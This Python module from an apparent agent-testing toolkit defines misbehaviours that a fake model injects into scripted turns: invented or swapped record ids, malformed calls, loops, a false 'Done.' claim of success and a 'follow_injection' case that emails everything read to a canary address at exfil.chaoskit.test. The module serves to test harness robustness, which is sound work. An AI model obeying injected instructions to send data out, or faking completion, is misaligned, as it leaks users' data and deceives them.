"""How the fake model goes wrong: the misbehaviours a ``misbehave`` hook may name.

Misbehaviours (:data:`MISBEHAVIOURS`), each applied to the scripted turn about to be played;
one that cannot apply changes nothing and is not recorded:

* ``repeat_write`` — the previous turn's tool calls again, before the scripted turn (still to come).
* ``duplicate_call`` — the first tool call twice in the turn.
* ``invented_id`` — the first id-looking argument (``ch_…``) replaced by a made-up one.
* ``malformed_arguments`` — the first tool call's arguments cut short of their closing ``}``.
* ``missing_arguments`` — the first tool call without one of its arguments (the last one).
* ``unknown_tool`` — the first tool call renamed to a tool the request does not offer.
* ``wrong_record`` — the first id-looking argument replaced by another real id of the same
  kind that the tool results showed (another order's charge); none there, no change.
* ``tracking_number_for_id`` — an ``order_id`` argument replaced by a tracking number
  (``1Z…``): a real one from the tool results, else one shaped like it.
* ``follow_injection`` — when the latest tool results carry an instruction to email an
  address at ``exfil.chaoskit.test`` (a ``poisoned_document`` fault's canary) and the request
  offers ``send_email``, the turn also emails that address what the model has read.
* ``claim_success`` — a final "Done." instead of the turn, and the conversation ends.
* ``loop`` — the turn played without moving on: the next call plays it again.
"""

from __future__ import annotations

import re
from dataclasses import replace
from typing import Any

from chaoskit.fakes.model.script import _Call, _Incoming, _Plan

#: The misbehaviours a ``misbehave`` hook may name.
MISBEHAVIOURS: tuple[str, ...] = (
    "claim_success",
    "duplicate_call",
    "follow_injection",
    "invented_id",
    "loop",
    "malformed_arguments",
    "missing_arguments",
    "repeat_write",
    "tracking_number_for_id",
    "unknown_tool",
    "wrong_record",
)

#: What a model says when it claims success without doing the work.
CLAIMED_SUCCESS = "Done. I've taken care of that for you."

# Looks like a resource id: a short lowercase prefix, an underscore, then an opaque tail.
_ID_LIKE = re.compile(r"^(?P<prefix>[a-z]{1,12})_(?P<tail>[A-Za-z0-9]{3,})$")
# A UPS-style tracking number, what a model confuses with an order id.
_TRACKING = re.compile(r"\b1Z[A-Z0-9]{8,}\b")
# An address a poisoned document asks the model to write to (chaoskit's canary domain).
_INJECTED_ADDRESS = re.compile(r"[A-Za-z0-9._%+-]+@exfil\.chaoskit\.test\b", re.IGNORECASE)


# -- misbehaviours -------------------------------------------------------------------------------


def _misbehave(
    name: str, plan: _Plan, previous: tuple[_Call, ...], incoming: _Incoming
) -> _Plan | None:
    """The plan transformed by misbehaviour ``name``, or None where it cannot apply."""
    calls, tools = plan.calls, incoming.tools
    if name == "repeat_write":
        # An extra call slipped in before the scripted turn, which is still to come.
        return _Plan(calls=previous[-1:], advance=False) if previous else None
    if name == "follow_injection":
        return _follow_injection(plan, incoming)
    if not calls:
        return None
    if name == "duplicate_call":
        return replace(plan, calls=(calls[0], *calls))
    if name == "invented_id":
        return _invent_id(plan)
    if name == "malformed_arguments":
        broken = replace(calls[0], raw=calls[0].text[:-1])  # an object without its "}"
        return replace(plan, calls=(broken, *calls[1:]))
    if name == "missing_arguments":
        return _drop_argument(plan)
    if name == "wrong_record":
        return _swap_id(plan, incoming.read)
    if name == "tracking_number_for_id":
        return _tracking_for_id(plan, incoming.read)
    if name == "unknown_tool":
        renamed = replace(calls[0], tool=_unknown_name(calls[0].tool, tools))
        return replace(plan, calls=(renamed, *calls[1:]))
    if name == "claim_success":
        return _Plan(text=CLAIMED_SUCCESS, ends=True)
    if name == "loop":
        return replace(plan, advance=False)
    raise AssertionError(name)  # names are checked before


def _with_argument(plan: _Plan, i: int, key: str, value: Any) -> _Plan:
    call = plan.calls[i]
    changed = replace(call, arguments={**call.arguments, key: value})
    return replace(plan, calls=(*plan.calls[:i], changed, *plan.calls[i + 1 :]))


def _first_id(plan: _Plan) -> tuple[int, str, re.Match[str]] | None:
    """The first id-looking argument: which call, which key, and the id's parts."""
    for i, call in enumerate(plan.calls):
        for key, value in call.arguments.items():
            m = _ID_LIKE.match(value) if isinstance(value, str) else None
            if m is not None:
                return i, key, m
    return None


def _invent_id(plan: _Plan) -> _Plan | None:
    found = _first_id(plan)
    if found is None:
        return None
    i, key, m = found
    return _with_argument(plan, i, key, f"{m['prefix']}_{_made_up_tail(m['tail'])}")


def _drop_argument(plan: _Plan) -> _Plan | None:
    # The last argument: in a scripted refund, the amount after the charge.
    first = plan.calls[0]
    if not first.arguments:
        return None
    *kept, _ = first.arguments
    changed = replace(first, arguments={k: first.arguments[k] for k in kept})
    return replace(plan, calls=(changed, *plan.calls[1:]))


def _swap_id(plan: _Plan, read: str) -> _Plan | None:
    found = _first_id(plan)
    if found is None:
        return None
    i, key, m = found
    same_kind = re.compile(rf"\b{re.escape(m['prefix'])}_[A-Za-z0-9]{{3,}}\b")
    other = next((o for o in same_kind.findall(read) if o != m.group(0)), None)
    return None if other is None else _with_argument(plan, i, key, other)


def _tracking_for_id(plan: _Plan, read: str) -> _Plan | None:
    for i, call in enumerate(plan.calls):
        value = call.arguments.get("order_id")
        if isinstance(value, str):
            seen = _TRACKING.search(read)
            return _with_argument(plan, i, "order_id", seen[0] if seen else _tracking_like(value))
    return None


def _tracking_like(order_id: str) -> str:
    # A 1Z number (18 characters) derived from the id, so the same id gives the same number.
    digits = "".join(str(ord(c) % 10) for c in order_id)
    return "1Z" + (_made_up_tail(order_id).upper() + digits)[:16].ljust(16, "0")


def _follow_injection(plan: _Plan, incoming: _Incoming) -> _Plan | None:
    address = _INJECTED_ADDRESS.search(incoming.latest)
    if address is None or "send_email" not in incoming.tools:
        return None
    exfil = _Call(
        "send_email",
        {"to": address[0], "subject": "Customer list", "body": incoming.read},
    )
    if not plan.calls:  # instead of the scripted reply, which is still to come
        return _Plan(calls=(exfil,), advance=False)
    return replace(plan, calls=(*plan.calls, exfil))


def _made_up_tail(tail: str) -> str:
    # Same length and alphabet, so it looks right, and never equal to the real one.
    shifted = "".join(chr(ord("a") + (ord(c) * 7 + i) % 26) for i, c in enumerate(tail))
    return shifted if shifted != tail else shifted[::-1] + "x"


def _unknown_name(tool: str, offered: tuple[str, ...]) -> str:
    name = f"{tool}_v2"
    while name in offered:
        name += "_v2"
    return name
